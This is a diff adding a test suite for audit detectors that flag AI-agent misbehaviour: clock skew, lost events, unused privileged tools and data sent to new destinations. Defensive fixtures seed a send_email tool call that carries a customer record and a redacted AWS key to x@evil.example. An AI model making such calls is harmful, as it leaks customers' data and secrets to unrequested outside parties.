@@ -1,0 +1,118 @@
+import { DETECTORS, type Finding } from '@agent-audit/detect'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { runId, type SeedRow, seedEvents } from '../../analytics/seed.ts'
+import { NO_CLICKHOUSE, startTestServer, type TestServer } from '../../analytics/support.ts'
+
+const WINDOW = {
+  agents: ['support', 'other'],
+  since: new Date('2026-11-24T00:00:00Z'),
+  until: new Date('2026-11-25T00:00:00Z'),
+}
+const REPORT = 'Customer 4711 Ada Lovelace, 12 Analytical Row, London, card ending 0042, balance 1,204.17 EUR'
+
+const minute = (count: number, row: (at: number) => SeedRow): SeedRow[] =>
+  Array.from({ length: count }, (_, index) => row(index))
+const clock = (at: number): string => `2026-11-24 10:${String(at).padStart(2, '0')}:00.000`
+
+describe.skipIf(NO_CLICKHOUSE !== undefined)(`queries about conduct ${NO_CLICKHOUSE ?? ''}`, () => {
+  let tests: TestServer
+  beforeAll(async () => {
+    tests = await startTestServer()
+  })
+
+  async function found(name: string, rows: readonly SeedRow[]): Promise<Finding[]> {
+    const detector = DETECTORS.find((each) => each.name === name)
+    if (detector?.unit !== 'query') throw new Error(`no query detector is called ${name}`)
+    const trail = await tests.newTrail()
+    await seedEvents(
+      trail.server,
+      rows.map((row, index) => ({ log_offset: index, ...row })),
+    )
+    const read: unknown[] = []
+    const params = { ...WINDOW }
+    for await (const row of trail.query(detector.sql, { schema: detector.schema, params })) read.push(row)
+    return detector.find(read as never[], detector.thresholds, WINDOW)
+  }
+
+  it('a producer ahead of its broker, and one far behind it, are one finding each', async () => {
+    const ahead = minute(20, (at) => ({ timestamp: clock(at + 5), log_time: clock(at), run_id: runId(7) }))
+    expect(await found('delivery.clock_skew', ahead)).toMatchObject([
+      { cause: `${runId(7)}/ahead`, severity: 'medium' },
+    ])
+    const behind = minute(20, (at) => ({ timestamp: clock(at), log_time: clock(at + 10) }))
+    expect(await found('delivery.clock_skew', behind)).toMatchObject([{ cause: `${runId(1)}/behind` }])
+  })
+
+  it('a spool that is sent late is no wrong clock', async () => {
+    const spool = minute(20, (at) => ({ timestamp: clock(at), log_time: clock(50) }))
+    expect(await found('delivery.clock_skew', spool)).toEqual([])
+  })
+
+  it('lost events are one finding a run and reason, with their count', async () => {
+    const lost = minute(3, (at) => ({
+      timestamp: clock(at),
+      event_type: 'events_lost',
+      reason: 'BUFFER_FULL',
+      content: JSON.stringify({ first_run_seq: at, last_run_seq: at + 1, count: 2 }),
+    }))
+    const [finding, ...more] = await found('delivery.events_lost', lost)
+    expect(finding).toMatchObject({ cause: `${runId(1)}/BUFFER_FULL`, severity: 'medium' })
+    expect(finding?.signals[0]).toMatchObject({ name: 'events', value: 6 })
+    expect(more).toEqual([])
+  })
+
+  it('tools that are declared and never called are named', async () => {
+    const content = JSON.stringify({ tools_available: ['search', 'refund', 'delete_user'] })
+    const days = minute(40, (at) => ({
+      timestamp: `2026-11-${String(14 + (at % 10)).padStart(2, '0')} 10:00:00.000`,
+      session_id: `s${at}`,
+      event_type: 'session_start',
+      content,
+    }))
+    const call = { event_type: 'tool_call', outcome: 'allowed', timestamp: '2026-11-20 10:00:00.000' }
+    const calls = [
+      { ...call, tool_name: 'search' },
+      { ...call, tool_name: 'refund' },
+    ]
+    const [finding] = await found('privilege.unused_tools', [...days, ...calls])
+    expect(finding?.signals[0]).toEqual({ name: 'unused_tools', value: 'delete_user' })
+    expect(await found('privilege.unused_tools', [...days, ...calls, { ...call, tool_name: 'delete_user' }])).toEqual(
+      [],
+    )
+    expect(await found('privilege.unused_tools', [...days.slice(0, 20), ...calls])).toEqual([])
+  })
+
+  const send = (to: string, body: string, more: SeedRow = {}): SeedRow => ({
+    timestamp: clock(5),
+    event_type: 'tool_call',
+    outcome: 'allowed',
+    tool_name: 'send_email',
+    tool_input: JSON.stringify({ to, body }),
+    ...more,
+  })
+  const read = { timestamp: clock(1), event_type: 'tool_result', tool_name: 'get_customer', tool_output: REPORT }
+  const ask = (text: string): SeedRow => ({
+    timestamp: clock(0),
+    event_type: 'session_start',
+    content: JSON.stringify({ user_message: text }),
+  })
+  const shape = (...rows: SeedRow[]): Promise<Finding[]> => found('exfiltration.new_destination', rows)
+
+  it('data of the session, or a secret, to a new destination has the shape of exfiltration', async () => {
+    expect(await shape(ask('hi'), read, send('x@evil.example', `fyi: ${REPORT}`))).toMatchObject([
+      { severity: 'high', session_id: 's1', signals: [{ value: 'evil.example' }, { value: false }, {}] },
+    ])
+    expect(await shape(ask('hi'), send('x@evil.example', 'key [redacted:aws_key]'))).toMatchObject([
+      { severity: 'critical' },
+    ])
+  })
+
+  it('neither a known destination, nor one that the user named, nor words of its own', async () => {
+    const before = { timestamp: '2026-11-20 10:00:00.000', session_id: 's0' }
+    expect(await shape(read, send('a@partner.example', 'hello', before), send('b@partner.example', REPORT))).toEqual([])
+    expect(await shape(ask('send it to x@new.example'), read, send('x@new.example', REPORT))).toEqual([])
+    const own = 'Dear customer, thank you for your patience. Your parcel will arrive on Tuesday, before noon. Regards'
+    expect(await shape(read, send('x@new.example', own))).toEqual([])
+    expect(await shape(read, send('x@new.example', REPORT, { outcome: 'denied' }))).toEqual([])
+  })
+})
